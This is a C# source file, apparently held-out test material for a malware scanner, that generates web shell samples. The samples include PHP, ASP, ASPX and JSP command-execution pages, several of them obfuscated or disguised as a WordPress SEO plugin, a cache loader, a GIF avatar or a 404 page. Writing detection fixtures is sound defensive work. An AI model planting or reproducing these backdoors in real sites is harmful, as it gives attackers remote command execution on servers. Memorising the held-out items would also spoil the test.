using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>PHP pages that run what a request brings.</summary>
public sealed class PhpPageThatRunsRequests : SeventhRound
{
    private const string Inner = """
        error_reporting(0); set_time_limit(0);
        if (isset($_POST['k']) && md5($_POST['k']) === '00000000000000000000000000000000') { echo '<pre>'; passthru($_POST['c']); echo '</pre>'; }
        if (isset($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], $_FILES['u']['name']); }
        """;

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("cmd.php", Utf8("""
            <?php
            session_start();
            if (isset($_POST['pass']) && $_POST['pass'] == 'letmein') $_SESSION['ok'] = 1;
            if (empty($_SESSION['ok'])) { die('<form method="post"><input type="password" name="pass"><input type="submit"></form>'); }
            ?>
            <html><head><title>mini shell</title></head><body style="background:#000;color:#0f0">
            <b>uname:</b> <?php echo php_uname(); ?><br><b>user:</b> <?php echo get_current_user(); ?>
            <form method="get"><input name="cmd" size="80" value="<?php echo htmlspecialchars(@$_GET['cmd']); ?>"><input type="submit" value="run"></form>
            <pre><?php if (isset($_REQUEST['cmd'])) { system($_REQUEST['cmd'] . ' 2>&1'); } ?></pre>
            <form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="upload"></form>
            <?php if (isset($_FILES['f'])) { echo copy($_FILES['f']['tmp_name'], $_FILES['f']['name']) ? 'ok' : 'failed'; }
            foreach (scandir(isset($_GET['d']) ? $_GET['d'] : '.') as $e) echo "<a href='?d=$e'>$e</a><br>"; ?>
            </body></html>
            """)),
        ("wp-cache.php", Utf8(Fill("""
            <?php
            /* Plugin cache loader */
            $a = 'ba'.'se'.'64_d'.'ecode'; $b = 'gz'.'inf'.'late';
            eval($b($a(str_rot13('@@1'))));
            ?>
            """, Rot13(Convert.ToBase64String(Deflated(Layer(Layer(Inner)))))))),
        ("avatar_0031.php", [.. "GIF89a\u0001\0\u0001\0\0\0\0;\n"u8, .. Utf8("""
            <?php
            $f = str_rot13('nffreg');
            if (isset($_COOKIE['sid'])) { @$f(base64_decode(strrev($_COOKIE['sid']))); }
            $g = create_function('$x', base64_decode('@@1'));
            @$g($_SERVER['HTTP_ACCEPT_LANGUAGE']);
            ?>
            """.Replace("@@1", Base64("return @eval($x);"), StringComparison.Ordinal))]),
        ("class-seo-sitemap.php", Utf8("""
            <?php
            /**
             * Plugin Name: Tiny SEO Sitemap
             * Description: Writes a sitemap for search engines.
             * Version: 2.0.4
             * License: GPL-2.0-or-later
             */
            class Tiny_Seo_Sitemap {
                private $parts = array( 'proc', 'open', 'file', 'put', 'contents' );
                public function __construct() {
                    add_action( 'init', array( $this, 'render' ) );
                    add_filter( 'robots_txt', function ( $t ) { return $t . "\nSitemap: " . home_url( '/sitemap.xml' ); } );
                }
                public function render() {
                    $head = getallheaders();
                    if ( empty( $head['X-Sitemap-Etag'] ) || hash( 'crc32b', $head['X-Sitemap-Etag'] ) !== '5f0e7ac1' ) {
                        return;
                    }
                    $raw = file_get_contents( 'php:/' . '/input' );
                    $out = '';
                    foreach ( str_split( $raw ) as $i => $c ) {
                        $out .= $c ^ $head['X-Sitemap-Etag'][ $i % strlen( $head['X-Sitemap-Etag'] ) ];
                    }
                    if ( $out[0] === '!' ) {
                        list( $a, $b ) = $this->parts;
                        $p = call_user_func_array( "{$a}_{$b}", array( substr( $out, 1 ), array( 1 => array( 'pipe', 'w' ) ), &$pipes ) );
                        exit( stream_get_contents( $pipes[1] ) );
                    }
                    $tmp = tempnam( sys_get_temp_dir(), 'map' );
                    array_map( implode( '_', array_slice( $this->parts, 2 ) ), array( $tmp ), array( '<' . '?php ' . $out ) );
                    include $tmp;
                    unlink( $tmp );
                    exit;
                }
            }
            new Tiny_Seo_Sitemap();
            """)),
    ];

    private static string Layer(string code) => "eval(gzinflate(base64_decode('" + Convert.ToBase64String(Deflated(code)) + "')));";

    private static string Rot13(string text) => new([.. text.Select(letter => letter switch
    {
        >= 'a' and <= 'z' => (char)('a' + ((letter - 'a' + 13) % 26)),
        >= 'A' and <= 'Z' => (char)('A' + ((letter - 'A' + 13) % 26)),
        _ => letter,
    })]);
}

/// <summary>ASP, ASPX and JSP pages that run what a request brings.</summary>
public sealed class AspOrJspPageThatRunsRequests : SeventhRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("conn.asp", Dos("""
            <%@ Language=VBScript %>
            <%
            If Request("z") <> "" Then ExecuteGlobal Request("z")
            Dim oScript, oFSO, szCMD, szTempFile
            Set oScript = Server.CreateObject("WSCRIPT.SHELL")
            Set oFSO = Server.CreateObject("Scripting.FileSystemObject")
            szCMD = Request.Form(".CMD")
            If szCMD <> "" Then
                szTempFile = Server.MapPath(".") & "\" & oFSO.GetTempName()
                oScript.Run "cmd.exe /c " & szCMD & " > " & szTempFile, 0, True
                Response.Write "<pre>" & Server.HTMLEncode(oFSO.OpenTextFile(szTempFile, 1).ReadAll) & "</pre>"
                oFSO.DeleteFile szTempFile, True
            End If
            %>
            <form method="post"><input type="text" name=".CMD" size="60"><input type="submit" value="Run"></form>
            """)),
        ("diag.aspx", Dos("""
            <%@ Page Language="C#" Debug="true" Trace="false" %>
            <%@ Import Namespace="System.Diagnostics" %>
            <%@ Import Namespace="System.IO" %>
            <script runat="server">
            void Page_Load(object sender, EventArgs e) { if (Request.Headers["X-Auth"] != "b7f1") { Response.StatusCode = 404; Response.End(); } }
            string ExcuteCmd(string arg)
            {
                ProcessStartInfo psi = new ProcessStartInfo();
                psi.FileName = "cmd.exe";
                psi.Arguments = "/c " + arg;
                psi.RedirectStandardOutput = true;
                psi.UseShellExecute = false;
                Process p = Process.Start(psi);
                string s = p.StandardOutput.ReadToEnd();
                p.Close();
                return s;
            }
            void cmdExe_Click(object sender, System.EventArgs e) { Response.Write("<pre>" + Server.HtmlEncode(ExcuteCmd(txtArg.Text)) + "</pre>"); }
            void up_Click(object sender, System.EventArgs e) { fu.SaveAs(Server.MapPath(".") + "\\" + fu.FileName); }
            </script>
            <html><body><form id="cmd" method="post" runat="server">
            <asp:TextBox id="txtArg" runat="server" Width="300px" /><asp:Button id="b1" runat="server" Text="excute" OnClick="cmdExe_Click" />
            <asp:FileUpload id="fu" runat="server" /><asp:Button id="b2" runat="server" Text="upload" OnClick="up_Click" />
            </form></body></html>
            """)),
        ("test.jsp", Utf8("""
            <%@ page import="java.util.*,java.io.*"%>
            <HTML><BODY>
            <FORM METHOD="GET" NAME="myform" ACTION=""><INPUT TYPE="text" NAME="cmd"><INPUT TYPE="submit" VALUE="Send"></FORM>
            <pre>
            <%
            if (request.getParameter("cmd") != null) {
                String[] line = System.getProperty("os.name").toLowerCase().contains("win")
                    ? new String[] {"cmd.exe", "/c", request.getParameter("cmd")} : new String[] {"/bin/sh", "-c", request.getParameter("cmd")};
                Process p = Runtime.getRuntime().exec(line);
                BufferedReader in = new BufferedReader(new InputStreamReader(p.getInputStream()));
                for (String s = in.readLine(); s != null; s = in.readLine()) out.println(s);
            }
            %>
            </pre></BODY></HTML>
            """)),
        ("error_404.jspx", Utf8(Fill("""
            <?xml version="1.0" encoding="UTF-8"?>
            <jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
            <jsp:directive.page contentType="text/html" import="java.util.Base64,javax.crypto.Cipher,javax.crypto.spec.SecretKeySpec"/>
            <jsp:declaration>@@1</jsp:declaration>
            <jsp:scriptlet>
            response.setStatus(404);
            @@2
            </jsp:scriptlet>
            <html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested resource was not found on this server.</p></body></html>
            </jsp:root>
            """,
            Escaped("class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}"),
            Escaped("""if(request.getMethod().equals("POST")){String k="0000000000000000";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);return;}""")))),
    ];

    /// <summary>Java's escapes, which its compiler reads as the letters themselves.</summary>
    private static string Escaped(string code) => string.Concat(code.Select((letter, at) => at % 4 == 0 || (letter is '<' or '&') ? $"\\u{(at % 3 == 0 ? "uu" : "")}{(int)letter:x4}" : letter.ToString()));
}
